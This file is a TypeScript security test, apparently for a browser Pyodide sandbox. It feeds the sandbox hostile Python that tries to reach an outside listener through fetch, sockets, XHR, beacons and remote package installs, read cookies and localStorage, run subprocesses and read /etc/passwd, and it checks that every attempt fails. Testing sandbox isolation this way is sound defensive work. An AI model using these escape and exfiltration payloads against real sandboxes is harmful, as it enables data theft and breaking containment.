import { expectUnharmed, listenOutside, runHostile } from './hostile-code.ts'
import { expect, test, thorough } from './test.ts'

// Hostile Python, which reaches the JavaScript of its worker.

test.use({ serviceWorkers: 'block', expectedConsoleErrors: [/./] })

const { outside, received } = listenOutside()

test('hostile Python sends nothing, loads nothing and finds no token', thorough, async ({ page, request }) => {
  test.slow()
  const url = outside()
  const attempts = [
    `await js.fetch('${url}/fetch'); raise_unless((await js.fetch('${url}/fetch')).ok)`,
    `from pyodide.http import pyfetch; raise_unless((await pyfetch('${url}/pyfetch')).ok)`,
    `from pyodide.http import open_url; open_url('${url}/openurl')`,
    `import urllib.request; urllib.request.urlopen('${url}/urllib', timeout=2)`,
    `import http.client; http.client.HTTPConnection('${url.slice('http://'.length)}', timeout=2).request('GET', '/http')`,
    `import socket; socket.create_connection(('127.0.0.1', ${new URL(url).port}), 2).send(b'GET /soket HTTP/1.0\\r\\n\\r\\n')`,
    `x = js.XMLHttpRequest.new(); x.open('GET', '${url}/xhr', False); x.send()`,
    `import micropip; await micropip.install('${url}/paket-1-py3-none-any.whl')`,
    `import pyodide_js; await pyodide_js.loadPackage('${url}/paket-1-py3-none-any.whl'); import paket`,
    `import pyodide_js; await pyodide_js.loadPackage('numpy'); import numpy`,
    `js.importScripts('${url}/impor.js')`,
    `from pyodide.code import run_js; run_js("fetch('${url}/runjs')")`,
    `js.eval("1")`,
    `js.Function.new('return 1')()`,
    `await js.caches.open('x')`,
    `js.localStorage.length`,
    `js.document.cookie`,
    `js.parent.document`,
    `js.window.top.location`,
    `js.SharedArrayBuffer.new(1)`,
    `import subprocess; subprocess.run(['ls'])`,
    `import threading; threading.Thread(target=print).start()`,
    `open('/etc/passwd').read()`,
  ]
  const code = `import js
def raise_unless(is_met):
    if not is_met: raise Exception('ditolak')
berhasil = []
async def tes_jahat():
${attempts.map((attempt, index) => `    try:\n        ${attempt}\n        berhasil.append(${index})\n    except BaseException: pass`).join('\n')}
    # Blob workers and sockets end by events, which are seen outside only.
    for buat in (lambda: js.WebSocket.new('${url.replace('http', 'ws')}/soket'), lambda: js.EventSource.new('${url}/peristiwa'), lambda: js.Worker.new('${url}/pekerja.js'), lambda: js.navigator.sendBeacon('${url}/beacon')):
        try: buat()
        except BaseException: pass
    js.postMessage('palsu')
    print('HASIL', berhasil)
`
  const tests = "tes('serang', tes_jahat)"
  const run = await runHostile({ page, request, outside: url }, 'python', code, tests)
  await expect(page.getByText(/^HASIL /)).toHaveText('HASIL []', { timeout: 40_000 })
  await expectUnharmed(page, run, received)
})
